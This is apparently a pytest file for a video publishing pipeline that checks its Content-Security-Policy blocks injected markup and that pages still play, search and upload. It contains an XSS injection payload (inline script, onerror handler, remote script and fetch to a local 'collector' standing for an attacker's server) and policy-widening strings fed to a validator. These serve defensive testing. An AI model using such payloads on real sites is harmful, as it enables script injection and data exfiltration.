"""Finding 8: the published pages and the upload page had no Content-Security-Policy. In Chromium: markup
slipped into a page (as an escaping bug would let through) runs no script and reaches no other origin, and
the pages still play, search and upload under their policy without a single violation."""

from __future__ import annotations

import http.server
import os
import threading
import time
from pathlib import Path

import boto3
import local_env
import pytest
from published_site import LOCKED, SECRET

from video_pipeline.bootstrap import bootstrap
from video_pipeline.config import Settings
from video_pipeline.keys import key_id
from video_pipeline.tokens import mint

# What an injection would try: inline script, an event handler, and script, style, image and fetch from
# elsewhere (the collector stands for the attacker's server).
INJECT = """(collector) => {
  document.body.insertAdjacentHTML("beforeend", `<img src="x" onerror="window.pwned = 'onerror'">`
    + `<img src="${collector}/image"><link rel="stylesheet" href="${collector}/style.css">`);
  const inline = document.createElement("script");
  inline.textContent = "window.pwned = 'inline script'";
  document.body.append(inline);
  const remote = document.createElement("script");
  remote.src = `${collector}/script.js`;
  document.body.append(remote);
  fetch(`${collector}/fetch`).catch(() => {});
}"""


@pytest.fixture(scope="module")
def collector():
    """An HTTP server on 127.0.0.1 that records every request: where injected markup would send things."""
    hits: list[str] = []

    class Record(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            hits.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.send_header("Content-Type", "text/javascript" if self.path.endswith(".js") else "text/plain")
            self.end_headers()
            self.wfile.write(b"window.pwned = 'remote script';" if self.path.endswith(".js") else b"")

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", local_env.free_port()), Record)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}", hits
    server.shutdown()


def _policy(content: str) -> dict[str, list[str]]:
    directives = (part.split() for part in content.split(";") if part.strip())
    return {name: values for name, *values in directives}


def _meta_policy(page) -> dict[str, list[str]]:
    contents = page.evaluate("() => [...document.querySelectorAll('meta[http-equiv]')]"
                             ".filter(m => m.httpEquiv.toLowerCase() === 'content-security-policy')"
                             ".map(m => m.content)")
    assert len(contents) == 1, contents
    return _policy(contents[0])


def _attack(page, collector) -> list[str]:
    url, hits = collector
    before = len(hits)
    page.evaluate(INJECT, url)
    page.wait_for_timeout(1500)
    pwned = page.evaluate("() => window.pwned ?? null")
    assert (pwned, hits[before:]) == (None, []), page.url
    return page.evaluate("() => window.violations")


def _pages(site) -> dict[str, str]:
    token = mint(SECRET, key_id(LOCKED), 600, time.time())
    return {"video page": site.plain.page_url, "encrypted video page": f"{site.locked.page_url}#token={token}",
            "site index": site.url("site/index.html")}


def test_markup_injected_into_a_published_page_runs_nothing_and_reaches_no_other_origin(
        published_site, browser, collector, violations_script):
    for name, url in _pages(published_site).items():
        page = browser.new_page()
        page.add_init_script(violations_script)
        page.goto(url)
        page.wait_for_load_state("load")
        violated = {v.split()[0] for v in _attack(page, collector)}
        assert {"script-src-elem", "script-src-attr", "img-src", "style-src-elem", "connect-src"} <= violated, name
        policy = _meta_policy(page)
        assert policy["default-src"] == ["'none'"] and policy["script-src"] == ["'self'"], (name, policy)
        assert policy["media-src"] == ["'self'", "blob:", "data:"]  # media cannot run script
        assert not [v for name, values in policy.items() if name != "media-src" for v in values
                    if v in ("*", "'unsafe-inline'", "'unsafe-eval'", "data:", "blob:", "http:", "https:")], policy
        page.close()


def test_the_pages_play_and_search_under_their_policy_without_a_violation(published_site, browser,
                                                                         violations_script):
    pages = _pages(published_site)
    for name in ("video page", "encrypted video page"):
        page = browser.new_page()
        page.add_init_script(violations_script)
        errors: list[str] = []
        page.on("console",
                lambda message, errors=errors: errors.append(message.text) if message.type == "error" else None)
        page.goto(pages[name])
        page.wait_for_function("() => document.querySelector('video').dataset.adaptive === 'true'", timeout=30_000)
        page.evaluate("() => { const v = document.querySelector('video'); v.muted = true; v.play().catch(() => {}); }")
        page.wait_for_function("() => document.querySelector('video').getVideoPlaybackQuality().totalVideoFrames > 10",
                               timeout=30_000)
        if name == "video page":  # the storyboard under the pointer, the poster, the thumbnails, the subtitles
            page.locator(".scrub").hover(position={"x": 100, "y": 5})
            assert page.locator("[data-scrub-preview]").is_visible()
            page.wait_for_function("() => [...document.images].every(i => i.complete && i.naturalWidth > 0)",
                                   timeout=15_000)
            page.wait_for_function("() => window.videoPlayer.getTextTracks().length > 0", timeout=15_000)
        policy = _meta_policy(page)
        if name == "encrypted video page":
            assert published_site.license_url in policy["connect-src"]
        assert (page.evaluate("() => window.violations"), errors) == ([], []), name
        page.close()

    page = browser.new_page()
    page.add_init_script(violations_script)
    page.goto(pages["site index"])
    page.get_by_role("searchbox").fill("tree")
    page.locator(".result li.cue mark").first.wait_for(timeout=30_000)
    assert page.locator(".result li.cue mark").first.inner_text().lower() == "tree"
    assert page.evaluate("() => window.violations") == []
    page.close()


# The upload page, served by Airflow's api-server ---------------------------------------------------------

BUCKET = "security-csp-uploads"


@pytest.fixture(scope="module")
def upload_page(moto_endpoint, tmp_path_factory, browser, violations_script):
    """``airflow standalone`` as ``make up`` runs it (DAGs paused: nothing processes the upload), and the
    upload page signed in as its admin; yields the page and the page's response headers."""
    from standalone import standalone

    home = tmp_path_factory.mktemp("airflow-csp")
    port = local_env.free_port()
    env = {**os.environ, **local_env.airflow_env(home, moto_endpoint, port), "VIDEO_PIPELINE_BUCKET": BUCKET,
           "VIDEO_PIPELINE_TABLE": f"{BUCKET}-videos", "VIDEO_PIPELINE_EVENTS_QUEUE_URL": "",
           "AIRFLOW__CORE__DAGS_ARE_PAUSED_AT_CREATION": "True"}
    settings = Settings.from_env(bucket=BUCKET, table=f"{BUCKET}-videos")
    bootstrap(s3=boto3.client("s3", endpoint_url=moto_endpoint),
              dynamodb=boto3.client("dynamodb", endpoint_url=moto_endpoint), settings=settings)
    with standalone(home, env, port) as api:
        page = browser.new_page()
        page.add_init_script(violations_script)
        page.goto(f"{api.base}/upload/")
        page.locator("input[name=username]").fill(local_env.ADMIN)
        page.locator("input[type=password]").fill(local_env.admin_password(home))
        with page.expect_response(lambda r: r.url.endswith("/upload/") and r.request.method == "GET") as answer:
            page.get_by_role("button", name="Sign in").click()
        page.locator("[data-file]").wait_for(state="attached")
        yield page, answer.value.all_headers()
        page.close()


def test_the_upload_page_sends_a_policy_that_stops_injected_markup(upload_page, collector):
    page, headers = upload_page
    violated = {v.split()[0] for v in _attack(page, collector)}
    assert {"script-src-elem", "script-src-attr", "img-src", "connect-src"} <= violated
    policy = _policy(headers.get("content-security-policy", ""))
    assert policy.get("default-src") == ["'none'"] and policy.get("script-src") == ["'self'"], headers
    assert policy.get("frame-ancestors") == ["'none'"]  # not framed for clickjacking


def test_a_file_uploads_from_the_page_under_its_policy(upload_page, cat_clip: Path, s3):
    page, _ = upload_page
    page.evaluate("() => { window.violations = []; }")  # the attack's, from the test before
    page.locator("[data-file]").set_input_files(str(cat_clip))
    row = page.locator(".upload-row").last
    page.wait_for_function("(row) => ['waiting', 'queued', 'running', 'published'].includes(row.dataset.state)",
                           arg=row.element_handle(), timeout=60_000)
    key = row.get_attribute("data-key")
    assert s3.get_object(Bucket=BUCKET, Key=key)["Body"].read() == cat_clip.read_bytes()  # straight to S3
    assert page.evaluate("() => window.violations") == []


def test_a_license_url_that_would_widen_the_policy_is_refused():
    """VIDEO_PIPELINE_LICENSE_URL goes into the encrypted pages' policy: it may name one http(s) URL, nothing more."""
    from video_pipeline import csp

    assert csp.source("https://license.example/clearkey", "VIDEO_PIPELINE_LICENSE_URL") == (
        "https://license.example/clearkey")
    for bad in ("https://a.example; script-src *", "https://a.example 'unsafe-inline'", "javascript:alert(1)",
                "/clearkey", "data:,x", "https://a.example,https://b.example"):
        with pytest.raises(ValueError, match="VIDEO_PIPELINE_LICENSE_URL"):
            csp.source(bad, "VIDEO_PIPELINE_LICENSE_URL")
